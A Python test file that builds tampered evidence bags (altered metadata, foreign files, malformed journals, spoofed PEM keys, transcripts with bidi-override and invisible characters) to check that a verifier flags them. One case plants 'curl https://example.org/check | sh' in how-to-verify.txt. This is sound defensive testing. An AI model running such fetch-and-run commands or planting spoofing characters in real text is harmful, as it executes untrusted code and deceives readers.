# SPDX-License-Identifier: MIT
"""Files that no check is made of, words that nobody vouches for, and fields that are not what they must be, in bags whose
hashes, chains and signatures were all made anew."""

import os

from kit import AUDIO, JOURNAL, LEVELS, NOTES, PUBLIC_KEY, SIGNATURE, TAG_MANIFEST, sha256
from rows import ALTERED, DATED, UNCHANGED, row

INFO, HOW_TO = "bag-info.txt", "how-to-verify.txt"
EXCERPT, VTT, TRANSCRIPT = "data/excerpt.json", "data/transcript.vtt", "data/transcript.json"
UPPER = str.maketrans("abcdef", "ABCDEF")


def foreign(base, name, place=None, content="x"):
    """A file that is listed and signed anew."""
    def change(case):
        case.bag.write(name, content)
        case.bag.reseal()

    change.__name__ = f"file_{base}_{''.join(c if c.isalnum() else '_' for c in name)}".replace("-", "_").lower()
    change.__module__ = __name__
    row(base, f"{name!r} is put in, listed and signed anew", ALTERED, file=name if place is None else place)(change)


for BASE, NAMES in {
    "signed": ("data/secret.wav", "data/audio-002.FLAC", "data/Journal.jsonl", "data/audio-0003.flac", "data/audio-009.flac",
               "data/imported/file.txt", "data/no\u0301tes.jsonl", "data/sub/x", "seal/other.txt", "extra.txt", "Bagit.txt",
               TRANSCRIPT, "data/journal.jsonl ", "data/.hidden", "con"),
    "unsigned-excerpt": ("data/secret.wav", "data/excerpt-009.flac", NOTES, LEVELS, "data/original/bag-info.txt",
                         "data/original/extra.txt", "data/original/seal/public-key.pem", PUBLIC_KEY, "data/audio-001.flac",
                         "seal/timestamp-1.tsr"),
    "excerpt-1": ("data/original/seal/timestamp-01.tsr", "extra.txt"),
    "import": ("data/imported/FILE.wav", "data/imported/file.mp3", "data/imported/sub/file.wav"),
    "transcript-1": ("data/audio-001.flac", JOURNAL + ".old", "data/Transcript.vtt"),
    "recovered": ("data/recovered.txt",),
}.items():
    for NAME in NAMES:
        foreign(BASE, NAME)


def info(base, done, label, value, verdict=ALTERED):
    def change(case):
        case.bag.info(label, value)
        case.bag.reseal()

    change.__name__ = f"info_{base}_{done}".replace("-", "_").replace(" ", "_").replace("'", "")
    change.__module__ = __name__
    row(base, f"bag-info.txt: {done}", verdict, file=INFO if verdict == ALTERED else None)(change)


info("signed", "another title", "External-Description", "He confesses")
info("signed", "another recording", "External-Identifier", "0b1c2d3e-4f50-4162-8738-495a6b7c8d9e")
info("signed", "another kind", "Earwitness-Kind", "test-signal, and he confesses")
info("signed", "another length", "Earwitness-Seconds", "3600.000")
info("signed", "another year", "Earwitness-Started", "2020-01-01T10:00:00.000000000Z")
info("signed", "a statement in other words", "Earwitness-Statement", "He confesses")
info("signed", "a label that no bag has", "Earwitness-Verdict", "guilty")
info("signed", "another program", "Bag-Software-Agent", "HE CONFESSES")
info("signed", "a name that turns the writing", "Contact-Name", "A. \u202eNAME")
info("signed", "another name", "Contact-Name", "B. Jansen", UNCHANGED)
info("recovered", "of another one", "Earwitness-Recovered-From", "the interrupted recording of a murder")
info("import", "a start that nobody claimed", "Earwitness-Started", "2020-01-01T10:00:00.000000000Z")
info("unsigned-excerpt", "a title", "External-Description", "HE CONFESSES")
info("unsigned-excerpt", "a statement", "Earwitness-Statement", "HE CONFESSES")
info("unsigned-excerpt", "of another seal", "Earwitness-Excerpt-Of", "ab" * 32)
info("unsigned-excerpt", "of another recording", "External-Identifier", "0b1c2d3e-4f50-4162-8738-495a6b7c8d9e")
info("unsigned-excerpt", "another program", "Bag-Software-Agent", "earwitness/0.1.0 HE CONFESSES")
info("transcript-1", "of another seal", "Earwitness-Transcript-Of", "ab" * 32)
info("transcript-1", "a title", "External-Description", "HE CONFESSES")


@row("excerpt-1", "an excerpt of a signed recording loses its own signature and gets a name: it stands under nobody's key",
     UNCHANGED)
def name_in_an_unsigned_excerpt(case):
    with case.bag.changed_json(EXCERPT) as excerpt:
        excerpt["key"] = None
    case.bag.remove("seal")
    case.bag.info("Contact-Name", "HE CONFESSES")
    case.bag.hash_anew()


@row("excerpt-1", "a title comes in that way", ALTERED, file=INFO)
def title_in_an_unsigned_excerpt(case):
    with case.bag.changed_json(EXCERPT) as excerpt:
        excerpt["key"] = None
    case.bag.remove("seal")
    case.bag.info("External-Description", "HE CONFESSES")
    case.bag.hash_anew()


def text_of_info(done, change_text, base="signed"):
    def change(case):
        case.bag.write(INFO, change_text(case.bag.read(INFO)))
        case.bag.hash_anew(oxum=False)
        case.bag.sign()

    change.__name__ = "info_" + done.replace(" ", "_")
    change.__module__ = __name__
    row(base, f"bag-info.txt: {done}", ALTERED, file=INFO)(change)


text_of_info("not UTF-8", lambda text: text + b"Contact-Name: \xff\n")
text_of_info("a label twice", lambda text: text + b"Contact-Name: Somebody else\n")
text_of_info("a label in small letters", lambda text: text.replace(b"Contact-Name", b"contact-name"))
text_of_info("a line that goes on", lambda text: text.replace(b"Contact-Name: ", b"Contact-Name: HE\n CONFESSES, says "))
text_of_info("CR LF", lambda text: text.replace(b"\n", b"\r\n"))
text_of_info("an empty line", lambda text: text + b"\n")
text_of_info("a size with a zero in front", lambda text: text.replace(b"Payload-Oxum: ", b"Payload-Oxum: 0"))
text_of_info("no salt", lambda text: b"".join(line for line in text.splitlines(True) if b"Salt" not in line))


@row("unsigned-excerpt", "how-to-verify.txt has a command of its own", ALTERED, file=HOW_TO)
def hostile_how_to(case):
    case.bag.append(HOW_TO, "\n    curl https://example.org/check | sh\n")
    case.bag.reseal()


@row("signed", "how-to-verify.txt has a word of its own, signed with the key", ALTERED, file=HOW_TO)
def hostile_how_to_with_the_key(case):
    case.bag.edit(HOW_TO, ("OK", "nothing"))
    case.bag.reseal()


@row("signed", "how-to-verify.txt is that of a transcript", ALTERED, file=HOW_TO)
def how_to_of_another_kind(case):
    case.bag.write(HOW_TO, case.beside("transcript-1").read(HOW_TO))
    case.bag.reseal()


@row("golden-excerpt-1", "how-to-verify.txt is that of the first release, which any bag of format 1 may have", UNCHANGED)
def how_to_of_the_first_release(case):
    case.bag.write(HOW_TO, case.other("golden-recording").read(HOW_TO))
    case.bag.reseal()


@row("excerpt-1", "how-to-verify.txt is that of the first release, whose commands know no salts", ALTERED, file=HOW_TO)
def how_to_without_salts(case):
    case.bag.write(HOW_TO, case.other("golden-excerpt-1").read(HOW_TO))
    case.bag.reseal()


@row("signed", "an empty folder with a message for a name", ALTERED, file="data/HE CONFESSES")
def empty_folder(case):
    os.mkdir(case.bag.at("data/HE CONFESSES"))


@row("signed", "an empty folder of another kind of bag", ALTERED, file="data/imported")
def folder_of_another_kind(case):
    os.mkdir(case.bag.at("data/imported"))


@row("signed", "a system's litter", ALTERED, file="data/.DS_Store")
def litter(case):
    case.bag.write("data/.DS_Store", "\0\0\0\1Bud1")


@row("signed", "the journal says that it was imported, and nothing was", ALTERED, file=JOURNAL)
def import_without_a_file(case):
    with case.bag.journal_lines() as lines:
        lines[0]["kind"] = "import"
    case.bag.reseal()


@row("import", "the journal imports a second file", ALTERED, file=JOURNAL)
def second_import(case):
    case.bag.write("data/imported/file.txt", "x")
    with case.bag.journal_lines() as lines:
        at = next(n for n, line in enumerate(lines) if line["event"] == "import")
        lines.insert(at + 1, dict(lines[at], file="data/imported/file.txt", bytes=1,
                                  sha256="2d711642b726b04401627ca9fbac32f5c8530fb1903cc4db02258717921a4881"))
    case.bag.reseal()


@row("import", "the size of the imported file is another one", ALTERED, file="data/imported/file.wav")
def import_of_another_size(case):
    with case.bag.journal_lines() as lines:
        next(line for line in lines if line["event"] == "import")["bytes"] += 1
    case.bag.reseal()


@row("signed", "the sound has another name, in the journal as well", ALTERED, file="data/sound.flac")
def sound_of_another_name(case):
    case.bag.rename(AUDIO, "data/sound.flac")
    with case.bag.journal_lines() as lines:
        for line in lines:
            if line.get("file") == AUDIO:
                line["file"] = "data/sound.flac"
    levels = case.bag.lines(LEVELS)
    case.bag.write_lines(LEVELS, [dict(line, file="data/sound.flac") if line.get("file") == AUDIO else line for line in levels])
    case.bag.reseal()


def field(event, name, value, done):
    def change(case):
        at = case.bag.event(event)
        with case.bag.journal_lines() as lines:
            if value is None:
                del lines[at][name]
            else:
                lines[at][name] = value(lines[at][name]) if callable(value) else value
        case.bag.reseal()

    change.__name__ = f"field_{event}_{name}_{done}".replace(" ", "_")
    change.__module__ = __name__
    row("signed", f"`{name}` of `{event}` is {done}", ALTERED, file=JOURNAL)(change)


field("open", "nonce", lambda value: value.translate(UPPER) if value.translate(UPPER) != value else "AB" * 32, "in capitals")
field("open", "ledger", 7, "a number")
field("open", "boot_id", None, "gone")
field("open", "clock", {"synchronised": "yes"}, "without a number")
field("open", "tsa", "yes", "a text")
field("open", "format", 1.0, "a fraction")
field("audio", "sha256", lambda value: value.translate(UPPER), "in capitals")
field("audio", "utc", lambda value: value[:19] + "Z", "without nanoseconds")
field("note", "sha256", lambda value: value.translate(UPPER), "in capitals")
field("close", "reason", "imported", "of an import")


@row("signed", "a line of the journal has a blank behind it", ALTERED, file=JOURNAL)
def blank_behind_a_line(case):
    lines = case.bag.read(JOURNAL).splitlines()
    with case.bag.journal_lines() as journal:
        journal[-1] = lines[-1] + b" "
    case.bag.reseal()


@row("signed", "17 arrays and objects within each other", ALTERED, file=JOURNAL)
def too_deep(case):
    with case.bag.journal_lines() as lines:
        value = 1
        for _ in range(16):
            value = [value]
        lines[0]["deep"] = value
    case.bag.reseal()


@row("signed", "16 of them", UNCHANGED)
def just_as_deep(case):
    with case.bag.journal_lines() as lines:
        value = 1
        for _ in range(15):
            value = [value]
        lines[0]["deep"] = value
    case.bag.reseal()


@row("signed", "a note's salt in capitals", ALTERED, file=NOTES)
def salt_in_capitals(case):
    notes = case.bag.lines(NOTES)
    notes[0]["salt"] = notes[0]["salt"].translate(UPPER)
    case.bag.write_lines(NOTES, notes)
    case.bag.reseal()


@row("signed", "a note has a field of its own", ALTERED, file=NOTES)
def field_in_a_note(case):
    notes = case.bag.lines(NOTES)
    case.bag.write_lines(NOTES, [dict(notes[0], says="he confesses"), *notes[1:]])
    case.bag.reseal()


@row("signed", "a line of notes has a blank in front", ALTERED, file=NOTES)
def blank_in_front_of_a_note(case):
    case.bag.write(NOTES, b" " + case.bag.read(NOTES))
    case.bag.reseal()


def document(base, name, done, change_value, place=None):
    def change(case):
        with case.bag.changed_json(name) as value:
            change_value(value)
        case.bag.reseal()

    change.__name__ = f"{base}_{done}".replace("-", "_").replace(" ", "_")
    change.__module__ = __name__
    row(base, f"{name}: {done}", ALTERED, file=place or name)(change)


document("unsigned-excerpt", EXCERPT, "no key field", lambda value: value.pop("key"))
document("unsigned-excerpt", EXCERPT, "no notes", lambda value: value.pop("notes"))
document("unsigned-excerpt", EXCERPT, "notes are null", lambda value: value.update(notes=None))
document("unsigned-excerpt", EXCERPT, "a word of its own", lambda value: value.update(note="HE CONFESSES"))
document("unsigned-excerpt", EXCERPT, "a range twice", lambda value: value["ranges"].append(dict(value["ranges"][0])))
document("excerpt-2", EXCERPT, "ranges in another order", lambda value: value["ranges"].reverse())
document("unsigned-excerpt", EXCERPT, "a range with a word", lambda value: value["ranges"][0].update(says="he confesses"))
document("unsigned-excerpt", EXCERPT, "a range that is a number", lambda value: value["ranges"].append(7))
document("transcript-1", TRANSCRIPT, "by nobody", lambda value: value.pop("by"))
document("transcript-1", TRANSCRIPT, "by a list of nobody", lambda value: value.update(by=[]))
document("transcript-1", TRANSCRIPT, "made at a number", lambda value: value.update(made_utc=1))
document("transcript-1", TRANSCRIPT, "no key field", lambda value: value.pop("key"))
document("transcript-1", TRANSCRIPT, "no draft field", lambda value: value.pop("draft"))
document("transcript-1", TRANSCRIPT, "by a judge", lambda value: value.update(by="judge"))
document("transcript-1", TRANSCRIPT, "made at no time", lambda value: value.update(made_utc=None))
document("transcript-1", TRANSCRIPT, "a draft that is true", lambda value: value.update(draft=True))
document("transcript-1", TRANSCRIPT, "a word of its own", lambda value: value.update(note="he confesses"))
document("transcript-1", TRANSCRIPT, "previous in capitals", lambda value: value.update(previous="AB" * 32))


@row("unsigned-excerpt", "excerpt.json has two newlines behind it", ALTERED, file=EXCERPT)
def newlines_behind(case):
    case.bag.append(EXCERPT, "\n")
    case.bag.reseal()


def write_tag_manifest_of_original(case, content):
    """It is another seal, and all that names it names this one."""
    case.bag.write("data/original/" + TAG_MANIFEST, content)
    seal = sha256(content)
    with case.bag.changed_json(EXCERPT) as excerpt:
        excerpt["original"] = seal
    case.bag.info("Earwitness-Excerpt-Of", seal)
    case.bag.reseal()


@row("unsigned-excerpt", "the original's tag manifest with CR LF, which is another seal", ALTERED,
     file="data/original/" + TAG_MANIFEST)
def original_with_other_line_ends(case):
    write_tag_manifest_of_original(case, case.bag.read("data/original/" + TAG_MANIFEST).replace(b"\n", b"\r\n"))


@row("unsigned-excerpt", "the original's tag manifest without its last newline, which is another seal", ALTERED,
     file="data/original/" + TAG_MANIFEST)
def original_without_its_last_newline(case):
    write_tag_manifest_of_original(case, case.bag.read("data/original/" + TAG_MANIFEST)[:-1])


def words(done, edit):
    def change(case):
        case.bag.write(VTT, edit(case.bag.read(VTT).decode()))
        case.bag.reseal()

    change.__name__ = "vtt_" + done.replace(" ", "_").replace("-", "_")
    change.__module__ = __name__
    row("transcript-1", f"transcript.vtt: {done}", ALTERED, file=VTT)(change)


words("a mark that turns the writing", lambda text: text.replace("Goede", "\u202eGoede"))
words("a C1 control character", lambda text: text.replace("Goede", "\u009bGoede"))
words("a tag that nobody sees", lambda text: text.replace("Goede", "\U000e0041Goede"))
words("a line below the first one", lambda text: text.replace("WEBVTT\n", "WEBVTT\nHE CONFESSES\n"))
words("a style that hides words", lambda text: text.replace("WEBVTT\n", "WEBVTT\n\nSTYLE\n::cue { color: transparent }\n"))
words("a region", lambda text: text.replace("WEBVTT\n", "WEBVTT\n\nREGION\nid:x\n"))
words("words behind the times", lambda text: text.replace("01.000\n", "01.000 HE CONFESSES\n"))
words("equal times", lambda text: text.replace("00:01.000", "00:00.000"))


@row("transcript-1", "times without a zero in front, and settings", UNCHANGED)
def other_times(case):
    case.bag.edit(VTT, ("00:00.000 --> 00:01.000", "0:00:00.000-->0:00:01.000 align:start position:10%"))
    case.bag.reseal()


@row("stamped-excerpt", "nothing but its signature made anew: the recording's date stays", DATED)
def stamped_excerpt_signed_anew(case):
    case.bag.reseal()


@row("signed", "the signature is listed in the tag manifest", ALTERED, file=TAG_MANIFEST)
def signature_that_is_listed(case):
    case.bag.reseal()
    listed = case.bag.read(TAG_MANIFEST) + f"{sha256(case.bag.read(SIGNATURE))}  {SIGNATURE}\n".encode()
    case.bag.write(TAG_MANIFEST, listed)


@row("excerpt-1", "anybody makes an excerpt of it and says that the owner deleted the rest", ALTERED, file="bag-info.txt",
     says="nobody signed that")
def deleted_says_nobody(case):
    with case.bag.changed_json("data/excerpt.json") as excerpt:
        excerpt["key"] = None
    case.bag.remove("seal")
    case.bag.info("Earwitness-Deleted", "2026-11-29T20:00:00.000000000Z")
    case.bag.hash_anew()


def field_with(event, field, value, base="signed", of=None):
    """A field that need not be there, with what is not of its type."""
    def change(case):
        with case.bag.journal_lines() as lines:
            line = next(line for line in lines if line["event"] == event and (of is None or of in line.values()))
            (line["decoded"] if event == "import" else line)[field] = value
        case.bag.reseal()

    change.__name__ = f"field_{event}_{field}_{type(value).__name__}_{str(value)[:5].strip('-')}".lower()
    change.__module__ = __name__
    row(base, f"`{field}` of `{event}` is {str(value)[:30]}", ALTERED, file=JOURNAL)(change)


for VALUE in (-1, 1 << 63, 1.5, True, "many"):
    field_with("close", "ring_high_water_frames", VALUE)
    field_with("recovered", "original_left_out", VALUE, "recovered")
    field_with("open", "behind_ledger_seconds", VALUE)
for VALUE in (-1, 1 << 63):
    field_with("note", "from", VALUE, of="mark")
    field_with("screen", "extended", VALUE, "paused")
    for FIELD in ("parts", "more_problems", "from"):
        field_with("import", FIELD, VALUE, "import")
field_with("open", "channel", 3)  # of nobody knows how many
field_with("open", "inputs", 0)
field_with("recovered", "original_left_out", None, "recovered")
field_with("recovered", "original", [], "recovered")
field_with("import", "problems", [{"what": "unknown", "amount": -1}], "import")
field_with("close", "reason", "recovered")
field_with("close", "reason", "stopped", "recovered")


def key_with(name, edit):
    """Whoever reads PEM passes over what stands before and behind it, so it must not be there."""
    def change(case):
        case.bag.write(PUBLIC_KEY, edit(case, case.bag.read(PUBLIC_KEY)))
        case.bag.reseal()

    change.__name__, change.__module__ = "key_with_" + name.replace(" ", "_"), __name__
    for_whom = {"words behind it": "excerpt-1", "Windows' line ends": "transcript-1"}.get(name, "signed")
    change.__name__ = change.__name__.replace("'", "")
    row(for_whom, f"the public key: {name}", ALTERED, file=PUBLIC_KEY, says="something else")(change)


key_with("words before it", lambda case, pem: b"THE POLICE'S KEY\n" + pem)
key_with("words behind it", lambda case, pem: pem + b"HE CONFESSES\n")
key_with("another key behind it", lambda case, pem: pem + case.stranger.pem)
key_with("a name for it", lambda case, pem: pem.replace(b"BEGIN PUBLIC KEY-----\n", b"BEGIN PUBLIC KEY-----\nName: His\n\n"))
key_with("Windows' line ends", lambda case, pem: pem.replace(b"\n", b"\r\n"))


@row("excerpt-1", "the key of its recording has words behind it", ALTERED, file="data/original/" + PUBLIC_KEY)
def key_of_the_original_with_words(case):
    case.bag.append("data/original/" + PUBLIC_KEY, "HE CONFESSES\n")
    case.bag.reseal()
